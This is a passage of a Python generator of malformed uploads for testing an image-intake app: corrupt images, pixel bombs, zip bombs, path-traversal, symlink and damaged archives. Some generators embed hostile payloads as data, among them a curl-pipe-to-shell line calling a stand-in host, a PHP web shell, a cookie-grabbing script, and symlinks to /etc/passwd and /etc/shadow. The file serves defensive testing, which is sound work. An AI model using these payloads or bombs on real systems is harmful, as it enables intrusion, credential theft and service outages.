"""A seeded generator of malformed uploads (issue #8: bad input at volume).

`malformed_uploads(n, seed=...)` returns n different uploads, every kind in KINDS represented once n >= len(KINDS):
truncated and corrupt images, pixel bombs, text/HTML/SVG/scripts named as images, zero bytes, garbage, and zip
archives that are bombs, nested, escaping ('../', absolute), linking, encrypted, damaged or lying about sizes.
Each Upload unpacks as (name, data, kind, expect): `expect` maps every result line the upload should produce (its
own name, or "<archive>:<member>" for zip members) to what Kensa must do with it. Zips mix good members in.
`good_uploads(n, seed=...)` makes the plain good images a batch mixes in.

Nothing here touches Django; the expected messages are the intake's own constants.
"""

from __future__ import annotations

import bz2
import hashlib
import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import lru_cache
from typing import NamedTuple

import numpy as np
from PIL import Image as PILImage

from webapp.images.intake import archives, decoding

ADDED = "added"
REJECTED = "rejected"
IGNORED = "ignored"  # zip junk and folders: no result line and nothing stored

# The app's default limits the bombs are sized against (the test checks settings still say so).
MAX_IMAGE_BYTES = 100 * 1024 * 1024
MAX_IMAGE_PIXELS = 64_000_000
MAX_ARCHIVE_BYTES = 4 * 1024 * 1024 * 1024
MAX_ARCHIVE_MEMBERS = 20_000

IMAGE_EXTENSIONS = [".png", ".PNG", ".jpg", ".jpeg", ".JPG", ".bmp", ".tif", ".tiff"]
EXTENSION_OF = {"PNG": ".png", "JPEG": ".jpg", "BMP": ".bmp", "TIFF": ".tif"}
WORDS = ["part", "bracket", "weld", "Prüfteil", "部品", "scan 01", "IMG_0042", "cam-B", "tile(3)", "x" * 60, "ok+fine"]

# What an unreadable file is told, by family.
UNREADABLE = (decoding.NOT_AN_IMAGE, decoding.TRUNCATED)
PIXEL_BOMB = ("(a decompression bomb?)",)
ANY_FORMAT_REFUSAL = (decoding.NOT_AN_IMAGE, decoding.TRUNCATED, "images are not supported", "pixel mode")
MEMBER_BOMB = ("Skipped: the file expands to",)
RATIO_BOMB = ("times its compressed size (a zip bomb?)",)
ARCHIVE_TOO_LARGE = ("The archive would expand to",)


class Expect(NamedTuple):
    status: str  # ADDED, REJECTED or IGNORED
    reasons: tuple[str, ...] = ()  # REJECTED: the message contains one of these
    sha256: str = ""  # ADDED: the stored original's SHA-256
    extension: str = ""  # ADDED: the stored extension, from the content (never from the name)


class Upload(NamedTuple):
    name: str
    data: bytes
    kind: str
    expect: dict[str, Expect]


def rejected(*reasons: str) -> Expect:
    return Expect(REJECTED, reasons)


def added(data: bytes, fmt: str) -> Expect:
    return Expect(ADDED, sha256=hashlib.sha256(data).hexdigest(), extension=EXTENSION_OF[fmt])


# --- images --------------------------------------------------------------------------------------------------------


def _pixels(rng: random.Random, width: int, height: int, channels: int) -> np.ndarray:
    shape = (height, width, channels) if channels > 1 else (height, width)
    return np.frombuffer(rng.randbytes(width * height * channels), np.uint8).reshape(shape)


def image_bytes(rng: random.Random, fmt: str, *, low: int = 4, high: int = 48) -> bytes:
    """A small, certainly unique (random pixels) valid image."""
    width, height = rng.randint(low, high), rng.randint(low, high)
    mode = rng.choice(["L", "RGB", "RGBA"] if fmt == "PNG" else ["L", "RGB"])
    picture = PILImage.fromarray(_pixels(rng, width, height, len(mode)), mode)
    params = {}
    if fmt == "JPEG":
        params = {"quality": rng.randint(40, 98), "progressive": rng.random() < 0.3}
    elif fmt == "TIFF":
        params = {"compression": rng.choice([None, "tiff_deflate", "tiff_lzw", "packbits"])}
    buffer = io.BytesIO()
    picture.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def _name(rng: random.Random, stem: str, extension: str) -> str:
    return f"{stem}-{rng.choice(WORDS)}{extension}"


def _one(name: str, data: bytes, kind: str, expect: Expect) -> Upload:
    return Upload(name, data, kind, {name: expect})


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_chunks(data: bytes) -> list[tuple[bytes, int, int]]:
    """(type, start of the chunk, end of the chunk) of every chunk."""
    chunks, pos = [], 8
    while pos + 12 <= len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        chunks.append((data[pos + 4 : pos + 8], pos, pos + 12 + length))
        pos += 12 + length
    return chunks


def good_plain(rng: random.Random, stem: str) -> Upload:
    fmt = rng.choice(["PNG", "PNG", "JPEG", "BMP", "TIFF"])
    data = image_bytes(rng, fmt)
    return _one(_name(rng, stem, EXTENSION_OF[fmt]), data, "good", added(data, fmt))


def truncated_png(rng: random.Random, stem: str) -> Upload:
    data = image_bytes(rng, "PNG", low=16, high=96)
    # Anywhere, the tail included: losing only the IEND chunk or the last checksum is still a truncated file.
    cut = rng.choice([rng.randrange(1, len(data)), len(data) - rng.randint(1, 24)])
    return _one(_name(rng, stem, ".png"), data[:cut], "truncated_png", rejected(*UNREADABLE))


def truncated_jpeg(rng: random.Random, stem: str) -> Upload:
    data = image_bytes(rng, "JPEG", low=16, high=96)
    cut = rng.choice([rng.randrange(1, len(data)), len(data) - rng.randint(1, 24)])
    return _one(_name(rng, stem, rng.choice([".jpg", ".jpeg"])), data[:cut], "truncated_jpeg", rejected(*UNREADABLE))


def truncated_other(rng: random.Random, stem: str) -> Upload:
    fmt = rng.choice(["BMP", "TIFF"])
    data = image_bytes(rng, fmt, low=16, high=64)
    cut = rng.randrange(1, len(data))
    return _one(_name(rng, stem, EXTENSION_OF[fmt]), data[:cut], "truncated_bmp_tiff", rejected(*UNREADABLE))


def png_bad_crc(rng: random.Random, stem: str) -> Upload:
    """Pixels intact, but the checksum of IDAT (or of a chunk after it) is wrong: a corrupt file."""
    data = image_bytes(rng, "PNG", low=8, high=64)
    iend = data.rindex(b"IEND") - 4
    if rng.random() < 0.3:  # a text chunk after the pixels, its checksum damaged
        text = _png_chunk(b"tEXt", b"Comment\0" + rng.randbytes(rng.randint(1, 40)).hex().encode())
        data = data[:iend] + text + data[iend:]
    chunks = [c for c in _png_chunks(data) if c[0] in (b"IDAT", b"tEXt", b"IEND") and c[1] >= data.index(b"IDAT") - 4]
    _, _, end = rng.choice(chunks)
    damaged = bytearray(data)
    damaged[end - rng.randint(1, 4)] ^= rng.randint(1, 255)
    return _one(_name(rng, stem, ".png"), bytes(damaged), "png_bad_crc", rejected(*UNREADABLE))


def png_corrupt_idat(rng: random.Random, stem: str) -> Upload:
    data = bytearray(image_bytes(rng, "PNG", low=8, high=64))
    _, start, end = next(c for c in _png_chunks(bytes(data)) if c[0] == b"IDAT")
    for _ in range(rng.randint(1, 8)):
        data[rng.randrange(start + 8, end - 4)] ^= rng.randint(1, 255)
    return _one(_name(rng, stem, ".png"), bytes(data), "png_corrupt_idat", rejected(*UNREADABLE))


def png_header(width: int, height: int, *, color_type: int = 2, idat: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png_pixel_bomb(rng: random.Random, stem: str) -> Upload:
    """A header claiming more pixels than the limit (50,000 x 50,000 among them) over a little real data."""
    if rng.random() < 0.3:
        width = height = 50_000
    else:
        width = rng.randint(MAX_IMAGE_PIXELS // 65_535 + 1, 65_535)
        height = rng.randint(MAX_IMAGE_PIXELS // width + 1, 65_535)
    idat = zlib.compress(bytes(rng.randint(1, 200_000)), 9)
    data = png_header(width, height, color_type=rng.choice([0, 2, 6]), idat=idat)
    return _one(_name(rng, stem, ".png"), data, "png_pixel_bomb", rejected(*PIXEL_BOMB))


def jpeg_pixel_bomb(rng: random.Random, stem: str) -> Upload:
    data = bytearray(image_bytes(rng, "JPEG", low=8, high=16))
    sof = next(i for i in range(2, len(data) - 9) if data[i] == 0xFF and data[i + 1] in (0xC0, 0xC2))
    width = rng.randint(MAX_IMAGE_PIXELS // 65_535 + 1, 65_535)
    height = rng.randint(MAX_IMAGE_PIXELS // width + 1, 65_535)
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return _one(_name(rng, stem, ".jpg"), bytes(data), "jpeg_pixel_bomb", rejected(*PIXEL_BOMB))


def png_zero_side(rng: random.Random, stem: str) -> Upload:
    width, height = rng.choice([(0, rng.randint(1, 500)), (rng.randint(1, 500), 0), (0, 0)])
    data = png_header(width, height, idat=zlib.compress(b"\0" * rng.randint(1, 100)))
    return _one(_name(rng, stem, ".png"), data, "png_zero_side", rejected(decoding.NOT_AN_IMAGE, *PIXEL_BOMB))


def zero_bytes(rng: random.Random, stem: str) -> Upload:
    extension = rng.choice([*IMAGE_EXTENSIONS, ".zip"])
    reason = archives.NOT_A_ZIP if extension == ".zip" else decoding.EMPTY_FILE
    return _one(_name(rng, stem, extension), b"", "zero_bytes", rejected(reason))


def _token(rng: random.Random) -> str:
    return rng.randbytes(rng.randint(2, 24)).hex()


def text_as_image(rng: random.Random, stem: str) -> Upload:
    token = _token(rng)
    body = rng.choice(
        [
            f"hello, I am a plain text file {token}\n" * rng.randint(1, 200),
            "id,label\n" + "".join(f"{i},{token}\n" for i in range(rng.randint(1, 500))),
            '{"image": "' + token + '", "pixels": [' + ",".join("0" * rng.randint(1, 300)) + "]}",
        ]
    )
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), body.encode(), "text_as_image", _not_image())


def html_as_image(rng: random.Random, stem: str) -> Upload:
    body = (
        f"<!DOCTYPE html><html><head><title>{_token(rng)}</title></head><body>"
        f"<script>fetch('/api/'+document.cookie)</script>{'<p>x</p>' * rng.randint(0, 300)}</body></html>"
    )
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), body.encode(), "html_as_image", _not_image())


def svg_as_image(rng: random.Random, stem: str) -> Upload:
    prolog = '<?xml version="1.0" encoding="UTF-8"?>\n' if rng.random() < 0.5 else ""
    shapes = "".join(
        f'<rect x="{rng.randint(0, 99)}" y="{rng.randint(0, 99)}" width="9" height="9"/>'
        for _ in range(rng.randint(0, 200))
    )
    body = (
        f'{prolog}<svg xmlns="http://www.w3.org/2000/svg" width="{rng.randint(1, 5000)}" height="100">'
        f"<script>alert('{_token(rng)}')</script>{shapes}</svg>"
    )
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), body.encode(), "svg_as_image", _not_image())


def script_as_image(rng: random.Random, stem: str) -> Upload:
    token = _token(rng)
    body = rng.choice(
        [
            f"#!/bin/sh\ncurl http://example.invalid/{token} | sh\n",
            f"<?php system($_GET['{token}']); ?>\n",
            f"#!/usr/bin/env python3\nimport os\nos.system('echo {token}')\n",
            f"(function(){{var t='{token}';eval(atob(t))}})();\n",
        ]
    ) + "#" * rng.randint(0, 2000)
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), body.encode(), "script_as_image", _not_image())


def binary_as_image(rng: random.Random, stem: str) -> Upload:
    head = rng.choice([b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b"MZ\x90\x00\x03\x00\x00\x00", b"\x7fELF\x02\x01\x01\x00"])
    data = head + rng.randbytes(rng.randint(0, 50_000))
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), data, "binary_as_image", _not_image())


def _not_image() -> Expect:
    return rejected(decoding.NOT_AN_IMAGE)


def random_garbage(rng: random.Random, stem: str) -> Upload:
    data = rng.randbytes(rng.choice([rng.randint(1, 64), rng.randint(64, 4096), rng.randint(4096, 300_000)]))
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), data, "random_garbage", rejected(*ANY_FORMAT_REFUSAL))


def large_garbage(rng: random.Random, stem: str) -> Upload:
    """Over Django's in-memory upload size, so the upload arrives as a temporary file."""
    data = rng.randbytes(rng.randint(10 * 1024 * 1024 + 1, 11 * 1024 * 1024))
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), data, "large_garbage", rejected(*ANY_FORMAT_REFUSAL))


def garbage_with_magic(rng: random.Random, stem: str) -> Upload:
    magic, extension = rng.choice(
        [(b"\x89PNG\r\n\x1a\n", ".png"), (b"\xff\xd8\xff\xe0", ".jpg"), (b"BM", ".bmp"), (b"II*\x00", ".tif")]
    )
    data = magic + rng.randbytes(rng.randint(0, 20_000))
    return _one(_name(rng, stem, extension), data, "garbage_with_magic", rejected(*ANY_FORMAT_REFUSAL))


def unsupported_format(rng: random.Random, stem: str) -> Upload:
    fmt = rng.choice(["GIF", "WEBP", "ICO", "PPM", "TGA"])
    picture = PILImage.fromarray(_pixels(rng, rng.randint(4, 40), rng.randint(4, 40), 3), "RGB")
    buffer = io.BytesIO()
    picture.save(buffer, format=fmt)
    reason = f"{'WEBP' if fmt == 'WEBP' else fmt} images are not supported"
    return _one(
        _name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), buffer.getvalue(), "unsupported_format", rejected(reason)
    )


def multi_frame_tiff(rng: random.Random, stem: str) -> Upload:
    frames = [PILImage.fromarray(_pixels(rng, 16, 16, 1), "L") for _ in range(rng.randint(2, 5))]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="TIFF", save_all=True, append_images=frames[1:])
    return _one(_name(rng, stem, ".tif"), buffer.getvalue(), "multi_frame_tiff", rejected(decoding.MULTI_FRAME))


def float_tiff(rng: random.Random, stem: str) -> Upload:
    pixels = np.frombuffer(rng.randbytes(4 * 16 * 16), np.float32).reshape(16, 16).copy()
    buffer = io.BytesIO()
    PILImage.fromarray(np.nan_to_num(pixels), "F").save(buffer, format="TIFF")
    return _one(_name(rng, stem, ".tif"), buffer.getvalue(), "float_tiff", rejected("pixel mode F"))


def zip_named_as_image(rng: random.Random, stem: str) -> Upload:
    data = _plain_zip({f"inner-{i}.png": image_bytes(rng, "PNG") for i in range(rng.randint(1, 3))})
    return _one(_name(rng, stem, rng.choice(IMAGE_EXTENSIONS)), data, "zip_named_as_image", _not_image())


def image_named_as_zip(rng: random.Random, stem: str) -> Upload:
    data = image_bytes(rng, rng.choice(["PNG", "JPEG"]))
    return _one(_name(rng, stem, ".zip"), data, "image_named_as_zip", rejected(archives.NOT_A_ZIP))


def misnamed_image(rng: random.Random, stem: str) -> Upload:
    """A real image under another type's name: Kensa goes by content, so it is taken and stored by its format."""
    fmt, extension = rng.choice(
        [("PNG", ".jpg"), ("JPEG", ".png"), ("BMP", ".tif"), ("PNG", ".txt"), ("JPEG", ".html"), ("PNG", "")]
    )
    data = image_bytes(rng, fmt)
    return _one(_name(rng, stem, extension), data, "misnamed_image", added(data, fmt))


# --- zip archives ------------------------------------------------------------------------------------------------


class Member(NamedTuple):
    """One zip entry as written, every field free to lie."""

    name: str
    payload: bytes  # as stored (compressed already)
    crc: int
    size: int  # declared uncompressed size
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    external_attr: int = 0
    unix: bool = False
    version_needed: int = 20
    header_offset: int | None = None  # the central directory points here instead of at its own local header
    local: bool = True  # False: central directory entry only (overlapping entries)


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def member(name: str, data: bytes, *, method: int = zipfile.ZIP_DEFLATED, **fields) -> Member:
    if method == zipfile.ZIP_STORED:
        payload = data
    elif method == zipfile.ZIP_DEFLATED:
        payload = _deflate(data)
    elif method == zipfile.ZIP_BZIP2:
        payload = bz2.compress(data)
    else:
        compressor = zipfile.LZMACompressor()
        payload = compressor.compress(data) + compressor.flush()
    return Member(name=name, payload=payload, crc=zlib.crc32(data), size=len(data), method=method, **fields)


def build_zip(members: list[Member], *, cd_offset_shift: int = 0) -> bytes:
    """Writes the entries as given (local headers, central directory, end record), lies included."""
    out, central, offsets = bytearray(), bytearray(), []
    for m in members:
        offsets.append(len(out))
        if not m.local:
            continue
        name = m.name.encode()
        flags = m.flags | (0 if m.name.isascii() else 0x800)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, m.version_needed, flags, m.method, 0, 0x21, m.crc, len(m.payload), m.size,
            len(name), 0,
        )  # fmt: skip
        out += name + m.payload
    for m, offset in zip(members, offsets, strict=True):
        name = m.name.encode()
        flags = m.flags | (0 if m.name.isascii() else 0x800)
        central += struct.pack(
            "<IBBHHHHHIIIHHHHHII", 0x02014B50, 20, 3 if m.unix else 0, m.version_needed, flags, m.method, 0, 0x21,
            m.crc, len(m.payload), m.size, len(name), 0, 0, 0, 0, m.external_attr,
            offset if m.header_offset is None else m.header_offset,
        )  # fmt: skip
        central += name
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out) + cd_offset_shift, 0
    )
    return bytes(out + central + end)


def _plain_zip(entries: dict[str, bytes]) -> bytes:
    return build_zip([member(name, data) for name, data in entries.items()])


@lru_cache(maxsize=16)
def deflated_run(size: int, byte: int = 0) -> tuple[bytes, int]:
    """`size` copies of one byte, deflated as zip stores it, and its CRC-32: the stuff of zip bombs."""
    compressor, crc, parts = zlib.compressobj(9, zlib.DEFLATED, -15), 0, []
    chunk = bytes([byte]) * (1 << 20)
    left = size
    while left:
        piece = chunk[: min(left, len(chunk))]
        parts.append(compressor.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    parts.append(compressor.flush())
    return b"".join(parts), crc


class ZipPlan:
    """Collects members and what each must come to, then writes the archive."""

    def __init__(self, rng: random.Random, stem: str, kind: str):
        self.rng, self.stem, self.kind = rng, stem, kind
        self.name = f"{stem}-{rng.choice(WORDS)}{rng.choice(['.zip', '.zip', '.ZIP', '.Zip'])}"
        self.members: list[Member] = []
        self.expect: dict[str, Expect] = {}

    def add(self, m: Member, expect: Expect | None, *, shown_as: str | None = None) -> None:
        self.members.append(m)
        if expect is not None:
            self.expect[f"{self.name}:{shown_as or m.name}"] = expect

    def add_good(self, count: int | None = None) -> None:
        for k in range(self.rng.randint(0, 2) if count is None else count):
            fmt = self.rng.choice(["PNG", "JPEG"])
            data = image_bytes(self.rng, fmt)
            folder = self.rng.choice(["", "", "imgs/", "train/good/", "batch 1/sub/"])
            method = self.rng.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
            self.add(member(f"{folder}{self.stem}-good{k}{EXTENSION_OF[fmt]}", data, method=method), added(data, fmt))

    def build(self, *, whole: Expect | None = None, shuffle: bool = True, **zip_options) -> Upload:
        """`whole`: the archive as a whole is refused, so it is its only line and none of its members count."""
        if shuffle:
            self.rng.shuffle(self.members)
        data = build_zip(self.members, **zip_options)
        expect = {self.name: whole} if whole else self.expect
        return Upload(self.name, data, self.kind, expect)

    def bad_name(self, k: int) -> str:
        return f"{self.stem}-bad{k}{self.rng.choice(['.png', '.jpg'])}"


def _count(rng: random.Random) -> int:
    return rng.randint(1, 3)


def zip_traversal(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_traversal")
    plan.add_good()
    for k in range(_count(rng)):
        target = f"{stem}-escape{k}.png"
        name = rng.choice(
            [f"../{target}", f"../../{target}", f"a/../../{target}", f"..\\{target}", f"./../x/{target}"]
            + [f"x/../../../etc/{target}"]
        )
        plan.add(member(name, image_bytes(rng, "PNG")), rejected(archives.UNSAFE_PATH))
    return plan.build()


def zip_absolute(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_absolute")
    plan.add_good()
    for k in range(_count(rng)):
        target = f"{stem}-abs{k}.png"
        name = rng.choice(
            [f"/tmp/{target}", f"/etc/{target}", f"C:/Windows/{target}", f"C:\\x\\{target}", f"//srv/{target}"]
        )
        plan.add(member(name, image_bytes(rng, "PNG")), rejected(archives.UNSAFE_PATH))
    return plan.build()


def zip_symlink(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_symlink")
    plan.add_good()
    for k in range(_count(rng)):
        target = rng.choice([b"/etc/passwd", b"../../../../etc/shadow", b"/proc/self/environ", image_bytes(rng, "PNG")])
        mode = stat.S_IFLNK | rng.choice([0o777, 0o755, 0o644])
        plan.add(member(plan.bad_name(k), target, external_attr=mode << 16, unix=True), rejected(archives.LINK))
    return plan.build()


def zip_nested(rng: random.Random, stem: str) -> Upload:
    """Archives inside the archive (zip in zip, zip in zip in zip, tarballs): not opened, their images not stored."""
    plan = ZipPlan(rng, stem, "zip_nested")
    plan.add_good()
    for k in range(_count(rng)):
        inner = _plain_zip({f"deep-{i}.png": image_bytes(rng, "PNG") for i in range(rng.randint(1, 3))})
        if rng.random() < 0.4:
            inner = _plain_zip({"inner.zip": inner, "x.png": image_bytes(rng, "PNG")})
        suffix = rng.choice([".zip", ".zip", ".ZIP", ".tar", ".tar.gz", ".tgz", ".7z", ".rar", ".bz2", ".xz"])
        data = inner if suffix.lower() == ".zip" else rng.randbytes(rng.randint(10, 5000))
        plan.add(member(f"{stem}-nested{k}{suffix}", data), rejected(archives.NESTED_ARCHIVE))
    return plan.build()


def zip_disguised_archive(rng: random.Random, stem: str) -> Upload:
    """An archive inside the archive, named as an image: read as an image, and it is not one."""
    plan = ZipPlan(rng, stem, "zip_disguised_archive")
    plan.add_good()
    for k in range(_count(rng)):
        inner = _plain_zip({"deep.png": image_bytes(rng, "PNG")})
        plan.add(member(plan.bad_name(k), inner), _not_image())
    return plan.build()


MEMBER_BOMB_SIZES = (MAX_IMAGE_BYTES + 1_000_000, 128 * 1024 * 1024, 200_000_000)


def zip_member_bomb(rng: random.Random, stem: str) -> Upload:
    """A member that really inflates past the per-file limit from a few hundred kilobytes."""
    plan = ZipPlan(rng, stem, "zip_member_bomb")
    plan.add_good()
    size = rng.choice(MEMBER_BOMB_SIZES)
    payload, crc = deflated_run(size)
    plan.add(Member(plan.bad_name(0), payload, crc, size), rejected(*MEMBER_BOMB))
    return plan.build()


def zip_ratio_bomb(rng: random.Random, stem: str) -> Upload:
    """Under the per-file limit, but expanding a thousand times: no real image compresses like that."""
    plan = ZipPlan(rng, stem, "zip_ratio_bomb")
    plan.add_good()
    for k in range(rng.randint(1, 2)):
        size = rng.randint(1_100_000, 12_000_000)
        payload, crc = deflated_run(size, rng.randint(0, 255))
        plan.add(Member(plan.bad_name(k), payload, crc, size), rejected(*RATIO_BOMB))
    return plan.build()


def zip_overlap_bomb(rng: random.Random, stem: str) -> Upload:
    """One deflated 128 MiB run that dozens of central directory entries all point at: over 4 GiB declared."""
    plan = ZipPlan(rng, stem, "zip_overlap_bomb")
    plan.add_good(1)  # refused with the rest: the whole archive is
    size = 128 * 1024 * 1024
    payload, crc = deflated_run(size)
    offset = sum(30 + len(m.name.encode()) + len(m.payload) for m in plan.members)
    name = plan.bad_name(0)
    plan.add(Member(name, payload, crc, size), None)
    for _ in range(MAX_ARCHIVE_BYTES // size + rng.randint(1, 30)):
        plan.add(Member(name, b"", crc, size, local=False, header_offset=offset), None)
    return plan.build(whole=rejected(*ARCHIVE_TOO_LARGE), shuffle=False)


def zip_declared_total(rng: random.Random, stem: str) -> Upload:
    """Entries whose declared sizes add up past the archive limit (their data is tiny): refused whole."""
    plan = ZipPlan(rng, stem, "zip_declared_total")
    plan.add_good(1)
    for k in range(rng.randint(2, 5)):
        data = rng.randbytes(rng.randint(1, 500))
        plan.add(member(plan.bad_name(k), data)._replace(size=rng.randint(2**31 + 1, 2**32 - 1)), None)
    return plan.build(whole=rejected(*ARCHIVE_TOO_LARGE))


def zip_declared_member(rng: random.Random, stem: str) -> Upload:
    """One entry declaring a size over the per-file limit, its data tiny: skipped, its siblings kept."""
    plan = ZipPlan(rng, stem, "zip_declared_member")
    plan.add_good()
    size = rng.randint(MAX_IMAGE_BYTES + 1, 3_900_000_000)
    plan.add(member(plan.bad_name(0), image_bytes(rng, "PNG"))._replace(size=size), rejected(*MEMBER_BOMB))
    return plan.build()


def zip_too_many_members(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_too_many_members")
    plan.add_good(1)
    empty = member("x", b"", method=zipfile.ZIP_STORED)
    for k in range(MAX_ARCHIVE_MEMBERS + rng.randint(1, 50)):
        plan.add(empty._replace(name=f"{k}.png"), None)
    return plan.build(whole=rejected("files, more than the limit of 20,000"), shuffle=False)


def zip_lying_small(rng: random.Random, stem: str) -> Upload:
    """Declares a few bytes, inflates to megabytes: reading stops at the declared size and the checksum fails."""
    plan = ZipPlan(rng, stem, "zip_lying_small")
    plan.add_good()
    payload, crc = deflated_run(rng.randint(2_000_000, 8_000_000), rng.randint(0, 255))
    plan.add(Member(plan.bad_name(0), payload, crc, rng.randint(1, 100_000)), rejected(archives.DAMAGED_MEMBER))
    return plan.build()


def zip_bad_crc(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_bad_crc")
    plan.add_good()
    good = member(
        plan.bad_name(0), image_bytes(rng, "PNG"), method=rng.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
    )
    plan.add(good._replace(crc=good.crc ^ rng.randint(1, 2**32 - 1)), rejected(archives.DAMAGED_MEMBER))
    return plan.build()


def zip_corrupt_deflate(rng: random.Random, stem: str) -> Upload:
    """Deflate data that zlib itself refuses (a reserved block type, bad stored lengths) or that decodes wrong."""
    plan = ZipPlan(rng, stem, "zip_corrupt_deflate")
    plan.add_good()
    m = member(plan.bad_name(0), image_bytes(rng, "PNG"))
    payload = bytearray(m.payload)
    how = rng.choice(["reserved_block", "stored_lengths", "flips"])
    if how == "reserved_block":
        payload[0] = rng.choice([0x06, 0x07])
    elif how == "stored_lengths":
        payload[0:5] = bytes([rng.choice([0, 1])]) + struct.pack("<HH", rng.randint(1, 999), rng.randint(0, 999))
    else:
        for _ in range(rng.randint(1, 20)):
            payload[rng.randrange(len(payload))] ^= rng.randint(1, 255)
    plan.add(m._replace(payload=bytes(payload)), rejected(archives.DAMAGED_MEMBER))
    return plan.build()


def zip_corrupt_other_method(rng: random.Random, stem: str) -> Upload:
    """LZMA or bzip2 data with damage inside."""
    plan = ZipPlan(rng, stem, "zip_corrupt_lzma_bzip2")
    plan.add_good()
    method = rng.choice([zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
    m = member(plan.bad_name(0), image_bytes(rng, "PNG"), method=method)
    payload = bytearray(m.payload)
    start = 9 if method == zipfile.ZIP_LZMA else 10  # past the LZMA properties / the bzip2 stream header
    for _ in range(rng.randint(3, 20)):
        payload[rng.randrange(start, len(payload))] ^= rng.randint(1, 255)
    plan.add(m._replace(payload=bytes(payload)), rejected(archives.DAMAGED_MEMBER))
    return plan.build()


def zip_unsupported_method(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_unsupported_method")
    plan.add_good()
    m = member(plan.bad_name(0), image_bytes(rng, "PNG"))
    plan.add(m._replace(method=rng.choice([1, 6, 9, 97, 98, 99])), rejected(archives.DAMAGED_MEMBER))
    return plan.build()


def zip_bad_member_offset(rng: random.Random, stem: str) -> Upload:
    """A central directory entry pointing past the end or into another member's data."""
    plan = ZipPlan(rng, stem, "zip_bad_member_offset")
    plan.add_good()
    m = member(plan.bad_name(0), image_bytes(rng, "PNG"))
    offset = rng.choice([rng.randint(10_000_000, 2**32 - 1), rng.randint(1, 29)])
    plan.add(m._replace(header_offset=offset), rejected(archives.DAMAGED_MEMBER))
    return plan.build(shuffle=False)


def zip_bad_directory_offset(rng: random.Random, stem: str) -> Upload:
    """The end record places the central directory further on than it is: every member is found at the wrong
    place (before the start of the file for the first one)."""
    plan = ZipPlan(rng, stem, "zip_bad_directory_offset")
    for k in range(rng.randint(1, 3)):
        plan.add(member(plan.bad_name(k), image_bytes(rng, "PNG")), rejected(archives.DAMAGED_MEMBER))
    return plan.build(cd_offset_shift=rng.randint(1, 2**30))


def zip_version_too_high(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_version_too_high")
    plan.add_good(1)
    m = member(plan.bad_name(0), image_bytes(rng, "PNG"))
    plan.add(m._replace(version_needed=rng.randint(64, 255)), None)
    return plan.build(whole=rejected(archives.NOT_A_ZIP))


def zip_encrypted(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_encrypted")
    plan.add_good()
    m = member(plan.bad_name(0), rng.randbytes(rng.randint(12, 5000)), method=zipfile.ZIP_STORED)
    plan.add(m._replace(flags=0x1 | rng.choice([0, 0x8, 0x40])), rejected(archives.ENCRYPTED))
    return plan.build()


def zip_truncated(rng: random.Random, stem: str) -> Upload:
    plan = ZipPlan(rng, stem, "zip_truncated")
    plan.add_good(rng.randint(1, 3))
    upload = plan.build(whole=rejected(archives.NOT_A_ZIP))
    return upload._replace(data=upload.data[: rng.randrange(0, len(upload.data))])


def zip_garbage(rng: random.Random, stem: str) -> Upload:
    head = rng.choice([b"", b"PK\x03\x04", b"PK\x05\x06", b"PK"])
    plan = ZipPlan(rng, stem, "zip_garbage")
    data = head + rng.randbytes(rng.randint(1, 50_000))
    return Upload(plan.name, data, plan.kind, {plan.name: rejected(archives.NOT_A_ZIP)})


BAD_MEMBER_SOURCES: list[Callable[[random.Random, str], Upload]] = []  # filled below, once the kinds exist


def zip_bad_images(rng: random.Random, stem: str) -> Upload:
    """Members that are bad files of the plain kinds (truncated, bombs, HTML...), among good ones."""
    plan = ZipPlan(rng, stem, "zip_bad_images")
    plan.add_good()
    for k in range(rng.randint(1, 4)):
        source = rng.choice(BAD_MEMBER_SOURCES)(rng, f"{stem}-m{k}")
        [(_, expect)] = source.expect.items()
        method = rng.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
        plan.add(member(f"inner/{source.name}", source.data, method=method), expect)
    if rng.random() < 0.5:
        plan.add(member(f"{stem}-empty.png", b""), rejected(decoding.EMPTY_FILE))
    return plan.build()


def zip_empty(rng: random.Random, stem: str) -> Upload:
    """An archive with nothing in it, or only folders and system junk: refused with a line that says so."""
    plan = ZipPlan(rng, stem, "zip_empty")
    for junk in rng.sample(
